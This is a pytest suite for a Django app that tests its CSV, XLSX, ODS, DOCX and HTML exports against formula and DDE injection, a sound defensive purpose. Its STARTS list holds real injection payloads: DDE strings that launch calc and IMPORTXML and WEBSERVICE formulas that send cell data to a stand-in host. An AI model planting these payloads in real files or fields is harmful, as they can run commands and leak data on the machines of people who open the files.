"""S5: whatever words people write, no file that goes out runs them when it is opened.

Every free text of every row is replaced by something that a spreadsheet or Word would run, found by
walking the models; then every export is read back, cell by cell.
"""

import csv
import io
import re
import zipfile
from collections.abc import Iterable, Iterator
from html import unescape
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.apps import apps
from django.core.management import call_command
from django.db import DatabaseError, models, transaction
from django.urls import reverse

from tests import access
from tests.audits.access.results import closed_round
from tests.audits.making import make_action, make_plan
from tests.cast import HISTORY, OPEN, Cast
from tests.report import making
from tests.report.fetching import fetched

pytestmark = pytest.mark.django_db

MARK = "qzx"
STARTS = [
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","a")', "=DDE(1;2;3)", "=A1"),
    *('=IMPORTXML(CONCAT("http://x.example",A1),"//a")', '=WEBSERVICE("http://x.example")'),
    *("=1+1", " =1+1", "  =1+1", "\u00a0=1", "\u2003=1", "=@A1", "=-1+1", "={1}", "=SUM(1:9)"),
    *("+1+1", "+cmd|'/C calc'!A0", " +1", "++1", "+A1", "-1+1", "-cmd|'/C calc'!A0", " -1", "-A1"),
    *("--1", "@SUM(1+1)", "@A1", " @A1", "@@", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "　＝1"),
    *("=msexcel|'\\..\\..\\calc.exe'!''", '=EXEC("calc")', "=CALL(1)", "=REGISTER(1)", '="x"&A1'),
]
assert len(STARTS) == 40
# Fields that hold no words: codes, addresses, digests, what a rule or a date is kept in.
NOT_WORDS = {
    "code",
    "email",
    "password",
    "quarter",
    "part",
    "digest",
    "previous",
    "key",
    "slug",
    "period",
    "period_text",
}
OURS = ("teams", "measures", "plan", "audits", "report", "events", "releases")


def words_of(model: type[models.Model]) -> list[Any]:
    """The fields of a model in which people write."""
    return [
        one
        for one in model._meta.concrete_fields
        if isinstance(one, (models.CharField, models.TextField))
        and type(one).__module__.startswith("django.")
        and not one.choices
        and not one.primary_key
        and one.name not in NOT_WORDS
    ]


def write_everywhere() -> set[str]:
    """A payload in every free text that the database takes it in; gives the fields."""
    written, number = set(), 0
    for model in [model for label in OURS for model in apps.get_app_config(label).get_models()]:
        for field in words_of(model):
            for row in list(model._base_manager.values_list("pk", flat=True)):
                text = f"{STARTS[number % 40]}{MARK}{number}"[: field.max_length or None]
                try:
                    with transaction.atomic():
                        model._base_manager.filter(pk=row).update(**{field.name: text})
                except DatabaseError:
                    break  # a rule of the database holds what may stand here
                written.add(f"{model._meta.label_lower}.{field.name}")
                number += 1
    return written


LIVE = re.compile(r"^\s*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"^-?[\d,]*\.?\d+%?$|^[-–—+]$")


def would_run(cells: Iterable[str]) -> list[str]:
    """The cells that a spreadsheet program takes for formulas; a number below 0 is none."""
    return [cell for cell in cells if LIVE.match(cell) and not NUMBER.match(cell)]


def of_csv(body: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
        yield from row


def of_zip(body: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(body)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def live_in(body: bytes, form: str) -> tuple[list[str], str]:
    """What would run in a file of this format, and all of its text."""
    if form == "csv":
        return would_run(of_csv(body)), body.decode()
    if form == "zip":
        files = [found for name, found in of_zip(body).items() if name.endswith(".csv")]
        cells = [cell for found in files for cell in of_csv(found)]
        return would_run(cells), "\n".join(cells)
    if form == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(body))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        formulas = [str(cell.value) for cell in cells if cell.data_type == "f"]
        texts = [str(cell.value) for cell in cells if cell.data_type == "s"]
        links = [cell.hyperlink.target or "" for cell in cells if cell.hyperlink]
        return formulas + would_run(texts) + [one for one in links if MARK in one], "\n".join(texts)
    return _live_in_xml(body, form)


def _live_in_xml(body: bytes, form: str) -> tuple[list[str], str]:
    """Of a document made of XML: fields and formulas with somebody's words in them."""
    if form == "html":
        text = body.decode()
        tags = re.findall(r"<[^>]*>", text)
        return [tag for tag in tags if MARK in tag and "href" in tag and 'href="#' not in tag], text
    parts = {name: found.decode() for name, found in of_zip(body).items() if name.endswith(("xml", "rels"))}  # fmt: skip
    text = "\n".join(parts.values())
    if form == "ods":
        cells = [unescape(cell) for cell in re.findall(r"<text:p[^>]*>([^<]*)", text)]
        return re.findall(r"table:formula=[^ ]*", text) + would_run(cells), text
    fields = re.findall(r"<w:instrText[^>]*>([^<]*)|<w:fldSimple [^>]*w:instr=\"([^\"]*)", text)
    inside = [part for field in fields for part in field if MARK in part or "DDE" in part]
    links = [one for one in re.findall(r'Target="([^"]*)"', text) if MARK in one]
    return inside + links, text


@pytest.fixture(scope="module")
def written(kept_cast: Cast) -> Iterator[dict[str, Any]]:
    """A council, its audits, its plan and a report, with payloads for words."""
    with transaction.atomic():
        made = kept_cast.submit("north-family")
        audited = closed_round(kept_cast)
        _, outcome = make_plan(kept_cast)
        action = make_action(kept_cast, outcome)
        report = making.begun(kept_cast, "Families were met at home.")
        fields = write_everywhere()
        yield {
            "fields": fields,
            "return": made,
            "round": audited,
            "action": action,
            "report": report,
        }
        transaction.set_rollback(True)


def test_payloads_stand_in_what_people_write(written: dict[str, Any]) -> None:
    """Or reading files for them would show nothing."""
    assert {
        *("teams.team.name", "teams.locality.name", "measures.measure.name"),
        *("measures.dataitem.definition", "plan.action.text", "plan.outcome.text"),
        *("audits.indicator.name", "audits.round.theme", "report.section.heading"),
        *("report.report.title", "measures.figure.note"),
    } <= written["fields"]


FILES = [
    *(("performance-export", form) for form in ("csv", "xlsx", "ods")),
    *(("plan-export", form) for form in ("csv", "xlsx", "ods", "docx")),
    *(("round-results-export", form) for form in ("csv", "xlsx", "ods")),
    *(("report-draft", form) for form in ("csv", "xlsx", "docx", "html")),
]


@pytest.mark.parametrize(("page", "form"), FILES)
def test_no_file_of_a_page_runs_what_somebody_wrote(
    page: str, form: str, cast: Cast, sessions: dict[str, str], written: dict[str, Any]
) -> None:
    kwargs = {
        "performance-export": {},
        "plan-export": {"year": 2016},
        "round-results-export": {"code": written["round"].code},
        "report-draft": {"code": written["report"].code, "kind": form},
    }[page]
    client = access.client_of("officer", sessions)
    answer: Any = fetched(client, f"{reverse(page, kwargs=kwargs)}?format={form}")
    assert answer.status_code == 200
    body = b"".join(answer) if answer.streaming else answer.content
    if (page, form) == ("report-draft", "csv"):
        form = "zip"
    live, text = live_in(body, form)
    assert live == []
    # A report of words alone has no figure, and so none of anybody's words, in its tables.
    assert MARK in text or form == "zip"


ADMINISTRATION = [
    kind for kind, people in access.kept_pages().items() if "export" in people["officer"]
]


@pytest.mark.parametrize("form", ["csv", "xlsx", "ods"])
def test_no_file_of_administration_runs_what_somebody_wrote(
    form: str, cast: Cast, sessions: dict[str, str], written: dict[str, Any]
) -> None:
    client, found = access.client_of("officer", sessions), set()
    for kind in ADMINISTRATION:
        address = reverse(f"admin:{kind}_export")
        formats = dict(_formats(client.get(address).content.decode()))
        fields = re.findall(r'name="([^"]*)"[^>]*checked', client.get(address).content.decode())
        sent = {"format": formats[form], **dict.fromkeys(fields, "on")}
        answer: Any = client.post(address, sent)
        body = b"".join(answer) if answer.streaming else answer.content
        live, text = live_in(body, form)
        assert live == [], kind
        found |= {kind} if MARK in text else set()
    assert {"teams_team", "teams_locality", "measures_measure"} <= found


def _formats(page: str) -> list[tuple[str, str]]:
    options = re.findall(r'<option value="(\d+)"[^>]*>\s*(\w+)', page)
    return [(name, value) for value, name in options]


def test_no_file_of_a_command_runs_what_somebody_wrote(
    written: dict[str, Any], tmp_path: Path
) -> None:
    span = ("--from", str(HISTORY[0]), "--to", str(OPEN))
    call_command("export_figures", *span, "--output", str(tmp_path / "figures.csv"))
    for form in ("csv", "xlsx", "ods"):
        file = tmp_path / f"rollup.{form}"
        call_command(
            "export_rollup", "--by", "team", *span, "--format", form, "--output", str(file)
        )
    call_command("export_everything", str(tmp_path / "out"))
    for file in [*tmp_path.glob("*.*"), *(tmp_path / "out").glob("*.csv")]:
        live, _ = live_in(file.read_bytes(), file.suffix[1:])
        assert live == [], file.name
